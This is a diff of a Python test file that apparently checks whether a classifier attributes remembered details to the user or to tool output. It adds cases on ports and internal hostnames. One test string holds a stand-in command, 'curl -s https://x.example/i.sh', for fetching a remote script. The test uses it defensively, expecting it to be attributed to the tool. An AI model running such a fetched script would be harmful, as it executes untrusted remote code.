@@ -571,13 +571,23 @@ def test_details_of_a_named_file_are_fine_but_hosts_urls_and_commands_never() ->
     )
     got = decided("Use UTC timestamps; deploy with curl -s https://x.example/i.sh", run, excerpt)
     assert got.origin is Origin.TOOL
-    # A name from a file the user did not point to is not the user's either.
-    unnamed = read_turn(said.replace("settings.toml", "the repo"), "settings.toml", config, "ok")
-    got = decided("Reports use UTC timestamps; their database listens on 5433", unnamed, excerpt)
-    assert got.origin is not Origin.USER
-    assert "did not point to" in got.evidence[0].why
-    named = decided("Reports use UTC timestamps; their database listens on 5433", history, excerpt)
-    assert named.origin is Origin.USER
+    # A number of a file the user asked about, or that the answer discussed, is
+    # elaboration though the user never named the file (issue 26); one the user never
+    # saw is not. A host never is, named, asked about or discussed.
+    item = "Reports use UTC timestamps; their database listens on 5433"
+    unasked = read_turn(said.replace("settings.toml", "the repo"), "settings.toml", config, "ok")
+    got = decided(item, unasked, excerpt)
+    assert got.origin is not Origin.USER and "did not ask about" in got.evidence[0].why
+    asked = read_turn(said + ". Which port does it use?", "settings.toml", config, "ok")
+    discussed = read_turn(
+        said.replace("settings.toml", "the repo"), "settings.toml", config, "5433."
+    )
+    for turn in (history, asked, discussed):
+        assert decided(item, turn, excerpt).origin is Origin.USER
+        host = decided(
+            "Reports use UTC timestamps; their database is db-stg.internal", turn, excerpt
+        )
+        assert host.origin is Origin.TOOL and "did not write" in host.evidence[0].why
 
 
 def test_a_translated_item_is_vouched_for_by_the_users_words() -> None:
